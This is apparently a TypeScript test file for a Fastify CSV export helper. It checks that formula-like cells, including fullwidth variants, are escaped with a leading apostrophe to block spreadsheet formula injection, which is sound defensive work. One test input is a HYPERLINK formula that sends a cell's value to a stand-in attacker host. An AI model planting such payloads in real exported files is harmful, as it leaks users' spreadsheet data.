import fastify from 'fastify'
import { expect, it } from 'vitest'
import { enviarCsv } from './csv.ts'

/** Writes cells as CSV and parses them again. */
async function celulas(valores: (string | number)[]): Promise<string[]> {
  const app = fastify()
  app.get('/', (_, reply) =>
    enviarCsv<string | number>(reply, {
      nome: 'lista',
      idioma: 'br',
      colunas: [{ titulo: { br: 'Valor', en: 'Value' }, valor: (valor) => valor }],
      pagina: async () => ({ itens: valores, proximo: null }),
    }),
  )
  const { body } = await app.inject('/')
  await app.close()
  return [...body.matchAll(/(?:^|\r\n)(?:"((?:[^"]|"")*)"|([^\r\n]*))(?=\r\n)/g)]
    .slice(1)
    .map(([, entreAspas, nua]) => entreAspas?.replaceAll('""', '"') ?? nua ?? '')
}

it.each([
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '=HYPERLINK("https://mau.exemplo?x="&A1;"clique")',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(A1)',
])('%j is text to a spreadsheet, and loses no character', async (formula) => {
  expect(await celulas([formula])).toEqual([`'${formula}`])
})

it('numbers stay numbers, and quotes and semicolons do not end a cell', async () => {
  expect(await celulas([-5, '-5,30', '+55 11 98765-4321', 'a;b', 'c"d', 'e\r\nf'])).toEqual([
    '-5',
    '-5,30',
    "'+55 11 98765-4321",
    'a;b',
    'c"d',
    'e\r\nf',
  ])
})
